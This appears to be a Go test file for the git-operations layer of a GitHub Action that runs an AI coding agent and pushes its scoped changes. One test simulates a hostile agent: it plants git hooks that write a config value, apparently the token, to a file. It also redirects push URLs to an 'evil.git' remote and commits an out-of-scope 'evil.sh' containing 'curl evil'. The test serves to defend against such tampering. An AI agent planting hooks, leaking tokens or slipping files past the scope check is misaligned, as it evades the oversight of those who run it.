package gitops

import (
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"slices"
	"sort"
	"strings"
	"testing"

	"github.com/codex-studio/studio-action/internal/ghemu"
)

const token = "ghs_gitopsTestToken"

// remote starts the emulator with a repository served by the real git http-backend and returns
// a fresh clone of it, checked out on main by the studio.
func remote(t *testing.T) (*ghemu.Server, *Repo) {
	t.Helper()
	emu, repo := remoteClone(t)
	if err := repo.CheckoutBase(context.Background(), "main"); err != nil {
		t.Fatal(err)
	}
	return emu, repo
}

// remoteClone is remote without the studio's first checkout: the workspace as actions/checkout
// leaves it.
func remoteClone(t *testing.T) (*ghemu.Server, *Repo) {
	t.Helper()
	emu, err := ghemu.New(ghemu.Options{Dir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { emu.Close() })
	if err := emu.CreateRepo(ghemu.RepoSpec{Owner: "o", Name: "r", Files: map[string]string{"a.txt": "a\n", "keep/b.txt": "b\n"}}); err != nil {
		t.Fatal(err)
	}
	emu.AddBot("github-actions[bot]")
	if err := emu.SetRole("o", "r", "github-actions[bot]", ghemu.RoleWrite); err != nil {
		t.Fatal(err)
	}
	if err := emu.AddToken(token, "github-actions[bot]"); err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join(t.TempDir(), "ws")
	if out, err := exec.Command("git", "clone", "-q", emu.GitURL("o", "r"), dir).CombinedOutput(); err != nil {
		t.Fatalf("clone: %v\n%s", err, out)
	}
	return emu, &Repo{Dir: dir, Token: token, RemoteURL: emu.GitURL("o", "r"), StateDir: filepath.Join(t.TempDir(), "state")}
}

// kinds reduces changes to "path kind" lines, for comparisons.
func kinds(changes []Change) []string {
	var out []string
	for _, c := range changes {
		out = append(out, c.Path+" "+string(c.Kind))
	}
	return out
}

func write(t *testing.T, dir, rel, content string) {
	t.Helper()
	p := filepath.Join(dir, rel)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

func TestChangesListsAddsEditsAndDeletes(t *testing.T) {
	_, repo := remote(t)
	ctx := context.Background()
	write(t, repo.Dir, "a.txt", "changed\n")
	write(t, repo.Dir, "new dir/with space.txt", "n\n")
	if err := os.Remove(filepath.Join(repo.Dir, "keep/b.txt")); err != nil {
		t.Fatal(err)
	}
	got, err := repo.Changes(ctx)
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"a.txt modified", "keep/b.txt deleted", "new dir/with space.txt added"}
	if !reflect.DeepEqual(kinds(got), want) {
		t.Fatalf("changes = %+v, want %+v", got, want)
	}
}

func TestCommitStagesOnlyGivenPathsAndPushes(t *testing.T) {
	emu, repo := remote(t)
	ctx := context.Background()
	if _, err := repo.PrepareBranch(ctx, "studio/task-1", "main"); err != nil {
		t.Fatal(err)
	}
	write(t, repo.Dir, "a.txt", "in scope\n")
	write(t, repo.Dir, "secret.txt", "out of scope\n")
	write(t, repo.Dir, "[x].txt", "glob-looking name\n")
	sha, err := repo.Commit(ctx, CommitRequest{Paths: []string{"a.txt", "[x].txt"}, Message: "m\n", Allow: func(p string) bool { return p != "secret.txt" }})
	if err != nil {
		t.Fatal(err)
	}
	if err := repo.Push(ctx, "studio/task-1"); err != nil {
		t.Fatal(err)
	}
	files, err := emu.ChangedFiles("o", "r", sha)
	if err != nil {
		t.Fatal(err)
	}
	sort.Strings(files)
	if !reflect.DeepEqual(files, []string{"[x].txt", "a.txt"}) {
		t.Fatalf("pushed commit changes %v", files)
	}
	if got, _ := emu.ResolveRef("o", "r", "refs/heads/studio/task-1"); got != sha {
		t.Fatalf("remote branch at %s, want %s", got, sha)
	}
	// The token travelled through a descriptor only: never in .git/config.
	cfg, _ := os.ReadFile(filepath.Join(repo.Dir, ".git", "config"))
	if strings.Contains(string(cfg), token) {
		t.Fatal("token written to .git/config")
	}
}

func TestCommitFailsClosedOnOutOfScopePath(t *testing.T) {
	_, repo := remote(t)
	ctx := context.Background()
	write(t, repo.Dir, "a.txt", "x\n")
	_, err := repo.Commit(ctx, CommitRequest{Paths: []string{"a.txt"}, Message: "m", Allow: func(string) bool { return false }})
	if !errors.Is(err, ErrOutOfScope) {
		t.Fatalf("err = %v, want ErrOutOfScope", err)
	}
	if head, _ := repo.HeadSHA(ctx); head != repo.tip {
		t.Fatal("a refused commit must not move the base")
	}
	if _, err := repo.Commit(ctx, CommitRequest{Paths: []string{"unchanged.txt"}, Message: "m"}); err == nil {
		t.Fatal("committing a path with no change must fail")
	}
}

func TestPushNeedsTheToken(t *testing.T) {
	_, repo := remote(t)
	ctx := context.Background()
	write(t, repo.Dir, "a.txt", "x\n")
	if _, err := repo.Commit(ctx, CommitRequest{Paths: []string{"a.txt"}, Message: "m"}); err != nil {
		t.Fatal(err)
	}
	anon := &Repo{Dir: repo.Dir, RemoteURL: repo.RemoteURL, StateDir: repo.StateDir}
	anon.tip = repo.tip
	if err := anon.Push(ctx, "x"); err == nil {
		t.Fatal("push without a token succeeded")
	}
	wrong := &Repo{Dir: repo.Dir, Token: "ghs_wrong", RemoteURL: repo.RemoteURL, StateDir: repo.StateDir}
	wrong.tip = repo.tip
	err := wrong.Push(ctx, "x")
	if err == nil || strings.Contains(err.Error(), "ghs_wrong") {
		t.Fatalf("push with a wrong token: err = %v (must fail and not echo the token)", err)
	}
}

func TestPrepareBranchContinuesAnExistingTaskBranch(t *testing.T) {
	emu, repo := remote(t)
	ctx := context.Background()
	sha, err := emu.CommitFiles("o", "r", "studio/task-9", ghemu.CommitSpec{Message: "earlier run", Files: map[string]string{"a.txt": "earlier\n"}})
	if err != nil {
		t.Fatal(err)
	}
	// Leftovers from before the run: CheckoutBase cleans them, and PrepareBranch right after it
	// builds on that checkout (moving only the paths the branch changed).
	write(t, repo.Dir, "stray.txt", "left over\n")
	write(t, repo.Dir, "keep/b.txt", "edited before the run\n")
	if err := repo.CheckoutBase(ctx, "main"); err != nil {
		t.Fatal(err)
	}
	existed, err := repo.PrepareBranch(ctx, "studio/task-9", "main")
	if err != nil || !existed {
		t.Fatalf("existed = %v, err = %v", existed, err)
	}
	if head, _ := repo.HeadSHA(ctx); head != sha {
		t.Fatalf("HEAD = %s, want the remote branch %s", head, sha)
	}
	if _, err := os.Stat(filepath.Join(repo.Dir, "stray.txt")); !os.IsNotExist(err) {
		t.Fatal("untracked leftovers must be cleaned before a run")
	}
	for p, want := range map[string]string{"a.txt": "earlier\n", "keep/b.txt": "b\n"} {
		if got, _ := os.ReadFile(filepath.Join(repo.Dir, p)); string(got) != want {
			t.Errorf("%s = %q, want %q", p, got, want)
		}
	}
	if ch, err := repo.Changes(ctx); err != nil || len(ch) != 0 {
		t.Fatalf("after PrepareBranch, changes = %v, %v", kinds(ch), err)
	}
	// Without a CheckoutBase before it (a new state directory), PrepareBranch checks the branch
	// out in full and cleans too.
	fresh := &Repo{Dir: repo.Dir, Token: token, RemoteURL: repo.RemoteURL, StateDir: filepath.Join(t.TempDir(), "state")}
	write(t, repo.Dir, "stray.txt", "left over\n")
	if existed, err := fresh.PrepareBranch(ctx, "studio/task-9", "main"); err != nil || !existed {
		t.Fatalf("fresh: existed = %v, err = %v", existed, err)
	}
	if _, err := os.Stat(filepath.Join(repo.Dir, "stray.txt")); !os.IsNotExist(err) {
		t.Fatal("fresh: untracked leftovers must be cleaned before a run")
	}
	if head, _ := fresh.HeadSHA(ctx); head != sha {
		t.Fatalf("fresh: HEAD = %s, want %s", head, sha)
	}
	existed, err = repo.PrepareBranch(ctx, "studio/task-10", "main")
	if err != nil || existed {
		t.Fatalf("new branch: existed = %v, err = %v", existed, err)
	}
}

// A re-run that adds nothing still delivers what the branch holds: ChangedAgainst names the paths
// the continued branch changes against the base it was checked out after.
func TestChangedAgainstNamesWhatTheBranchHoldsAgainstTheBase(t *testing.T) {
	emu, repo := remote(t)
	ctx := context.Background()
	if _, err := emu.CommitFiles("o", "r", "studio/task-9", ghemu.CommitSpec{Message: "earlier run", Files: map[string]string{"a.txt": "earlier\n", "new/c.txt": "c\n"}}); err != nil {
		t.Fatal(err)
	}
	if err := repo.CheckoutBase(ctx, "main"); err != nil {
		t.Fatal(err)
	}
	if _, err := repo.PrepareBranch(ctx, "studio/task-9", "main"); err != nil {
		t.Fatal(err)
	}
	got, err := repo.ChangedAgainst(ctx, "main")
	if err != nil || !slices.Equal(got, []string{"a.txt", "new/c.txt"}) {
		t.Fatalf("ChangedAgainst = %q, %v; want a.txt and new/c.txt", got, err)
	}
	// A new branch starts at the base: nothing to deliver yet.
	if _, err := repo.PrepareBranch(ctx, "studio/task-10", "main"); err != nil {
		t.Fatal(err)
	}
	if got, err := repo.ChangedAgainst(ctx, "main"); err != nil || len(got) != 0 {
		t.Fatalf("a new branch: ChangedAgainst = %q, %v; want none", got, err)
	}
}

// A second run of a task continues its branch, commits a new edit of a path the branch had
// already changed, and is put back on the base: the checkout must rewrite that path, not refuse
// it as "not uptodate" (issue 35: the local `studio run`, run twice, left the task's files).
func TestCheckoutBaseAfterCommittingOnAContinuedBranch(t *testing.T) {
	emu, repo := remoteClone(t)
	ctx := context.Background()
	if _, err := emu.CommitFiles("o", "r", "studio/task-9", ghemu.CommitSpec{Message: "earlier run", Files: map[string]string{"a.txt": "earlier\n"}}); err != nil {
		t.Fatal(err)
	}
	if existed, err := repo.PrepareBranch(ctx, "studio/task-9", "main"); err != nil || !existed {
		t.Fatalf("existed = %v, err = %v", existed, err)
	}
	write(t, repo.Dir, "a.txt", "again\n")
	if _, err := repo.Commit(ctx, CommitRequest{Paths: []string{"a.txt"}, Message: "m\n", Allow: func(string) bool { return true }}); err != nil {
		t.Fatal(err)
	}
	if err := repo.CheckoutBase(ctx, "main"); err != nil {
		t.Fatalf("back to main: %v", err)
	}
	if got, _ := os.ReadFile(filepath.Join(repo.Dir, "a.txt")); string(got) != "a\n" {
		t.Errorf("a.txt = %q, want main's", got)
	}
	if ch, err := repo.Changes(ctx); err != nil || len(ch) != 0 {
		t.Errorf("after CheckoutBase, changes = %v, %v", kinds(ch), err)
	}
}

func TestExcludeAndStripCredentials(t *testing.T) {
	_, repo := remote(t)
	ctx := context.Background()
	if err := repo.Exclude(ctx, "/.codex/runs/"); err != nil {
		t.Fatal(err)
	}
	if err := repo.Exclude(ctx, "/.codex/runs/"); err != nil { // idempotent
		t.Fatal(err)
	}
	write(t, repo.Dir, ".codex/runs/1-role/prompt.md", "p")
	if ch, _ := repo.Changes(ctx); len(ch) != 0 {
		t.Fatalf("excluded evidence shows as changes: %+v", ch)
	}
	if removed, err := repo.StripCredentialHelpers(ctx); err != nil || len(removed) != 0 {
		t.Fatalf("nothing to strip: %v %v", removed, err)
	}
	if out, err := exec.Command("git", "-C", repo.Dir, "config", "--local", "http.https://github.com/.extraheader", "AUTHORIZATION: basic xyz").CombinedOutput(); err != nil {
		t.Fatalf("%v %s", err, out)
	}
	removed, err := repo.StripCredentialHelpers(ctx)
	if err != nil || len(removed) != 1 {
		t.Fatalf("removed = %v, err = %v", removed, err)
	}
	cfg, _ := os.ReadFile(filepath.Join(repo.Dir, ".git", "config"))
	if strings.Contains(string(cfg), "xyz") {
		t.Fatal("persisted credential still in .git/config")
	}
}

func TestCommitAllowEmptyLeavesTheWorkingTreeOut(t *testing.T) {
	emu, repo := remote(t)
	ctx := context.Background()
	if _, err := repo.PrepareBranch(ctx, "studio/task-1", "main"); err != nil {
		t.Fatal(err)
	}
	// A staged and an unstaged edit: neither may ride along in the empty plan commit.
	write(t, repo.Dir, "a.txt", "dirty\n")
	if out, err := exec.Command("git", "-C", repo.Dir, "add", "a.txt").CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	write(t, repo.Dir, "keep/b.txt", "dirty too\n")
	if _, err := repo.Commit(ctx, CommitRequest{Message: "plan\n"}); !errors.Is(err, ErrNothingToCommit) {
		t.Fatalf("without AllowEmpty: err = %v, want ErrNothingToCommit", err)
	}
	sha, err := repo.Commit(ctx, CommitRequest{Message: "plan: x\n", AllowEmpty: true})
	if err != nil {
		t.Fatal(err)
	}
	if err := repo.Push(ctx, "studio/task-1"); err != nil {
		t.Fatal(err)
	}
	files, err := emu.ChangedFiles("o", "r", sha)
	if err != nil {
		t.Fatal(err)
	}
	if len(files) != 0 {
		t.Fatalf("empty plan commit changes %v", files)
	}
	if data, _ := os.ReadFile(filepath.Join(repo.Dir, "a.txt")); string(data) != "dirty\n" {
		t.Fatalf("the working tree must be left alone, a.txt = %q", data)
	}
}

// The agent runs in the workspace with write access to .git. None of what it can plant there may
// run inside the bot, redirect the push, or let its own commits bypass the scope check.
func TestPushIgnoresWhatTheAgentPlantedInGit(t *testing.T) {
	emu, repo := remote(t)
	ctx := context.Background()
	if _, err := repo.PrepareBranch(ctx, "studio/task-1", "main"); err != nil {
		t.Fatal(err)
	}
	canary := filepath.Join(t.TempDir(), "hook-ran")
	for _, hook := range []string{"pre-push", "post-commit", "pre-commit", "reference-transaction"} {
		write(t, repo.Dir, ".git/hooks/"+hook, "#!/bin/sh\necho \"$GIT_CONFIG_VALUE_3\" >> "+canary+"\nexit 1\n")
		if err := os.Chmod(filepath.Join(repo.Dir, ".git/hooks", hook), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for _, kv := range [][2]string{{"remote.origin.pushurl", "http://127.0.0.1:1/evil.git"}, {"url.http://127.0.0.1:1/.insteadOf", emu.URL() + "/"}} {
		if out, err := exec.Command("git", "-C", repo.Dir, "config", kv[0], kv[1]).CombinedOutput(); err != nil {
			t.Fatalf("%v %s", err, out)
		}
	}
	// The agent commits an out-of-scope file itself and edits an in-scope one.
	write(t, repo.Dir, "evil.sh", "curl evil\n")
	if out, err := exec.Command("git", "-C", repo.Dir, "-c", "core.hooksPath=/dev/null", "-c", "user.name=a", "-c", "user.email=a@b", "add", "evil.sh").CombinedOutput(); err != nil {
		t.Fatalf("%v %s", err, out)
	}
	if out, err := exec.Command("git", "-C", repo.Dir, "-c", "core.hooksPath=/dev/null", "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qm", "agent").CombinedOutput(); err != nil {
		t.Fatalf("%v %s", err, out)
	}
	write(t, repo.Dir, "a.txt", "in scope\n")

	changes, err := repo.Changes(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(kinds(changes), []string{"a.txt modified", "evil.sh added"}) {
		t.Fatalf("changes = %+v: the agent's own commit must not hide evil.sh from the scope check", changes)
	}
	sha, err := repo.Commit(ctx, CommitRequest{Paths: []string{"a.txt"}, Message: "m", Allow: func(p string) bool { return p == "a.txt" }})
	if err != nil {
		t.Fatal(err)
	}
	if err := repo.Push(ctx, "studio/task-1"); err != nil {
		t.Fatalf("push must go to the recorded origin, not the planted URLs: %v", err)
	}
	if got, _ := emu.ResolveRef("o", "r", "refs/heads/studio/task-1"); got != sha {
		t.Fatalf("remote branch at %s, want the studio's commit %s", got, sha)
	}
	files, _ := emu.ChangedFiles("o", "r", sha)
	if !reflect.DeepEqual(files, []string{"a.txt"}) {
		t.Errorf("pushed commit changes %v", files)
	}
	if data, err := repo.run(ctx, "ls-tree", "-r", "--name-only", sha); err != nil || strings.Contains(string(data), "evil.sh") {
		t.Errorf("evil.sh reached the pushed tree: %s %v", data, err)
	}
	if _, err := os.Stat(canary); !os.IsNotExist(err) {
		data, _ := os.ReadFile(canary)
		t.Fatalf("a planted hook ran inside the bot (saw %q)", data)
	}
	if err := repo.Discard(ctx, []Change{{Path: "evil.sh", Kind: Added}}); err != nil {
		t.Fatal(err)
	}
	if ch, _ := repo.Changes(ctx); len(ch) != 0 {
		t.Errorf("after discarding, changes = %+v", ch)
	}
}

func TestStripCredentialsFollowsIncludes(t *testing.T) {
	_, repo := remote(t)
	ctx := context.Background()
	creds := filepath.Join(t.TempDir(), "git-credentials.config")
	if err := os.WriteFile(creds, []byte("[http \"https://github.com/\"]\n\textraheader = AUTHORIZATION: basic c2VjcmV0\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command("git", "-C", repo.Dir, "config", "includeIf.gitdir:"+repo.Dir+"/.git.path", creds).CombinedOutput(); err != nil {
		t.Fatalf("%v %s", err, out)
	}
	removed, err := repo.StripCredentialHelpers(ctx)
	if err != nil || len(removed) != 1 {
		t.Fatalf("removed = %v, err = %v", removed, err)
	}
	if out, _ := exec.Command("git", "-C", repo.Dir, "config", "--includes", "--get-regexp", "extraheader").Output(); len(out) != 0 {
		t.Fatalf("a credential is still in effect: %s", out)
	}
}

func TestSecretFormsCoverTheBasicHeader(t *testing.T) {
	forms := SecretForms("ghs_abc")
	if len(forms) != 2 || forms[0] != "ghs_abc" || forms[1] != "eC1hY2Nlc3MtdG9rZW46Z2hzX2FiYw==" {
		t.Fatalf("forms = %v", forms)
	}
	if got := redact("header: eC1hY2Nlc3MtdG9rZW46Z2hzX2FiYw== token ghs_abc", "ghs_abc"); strings.Contains(got, "ghs_abc") || strings.Contains(got, "eC1h") {
		t.Fatalf("redact = %q", got)
	}
}
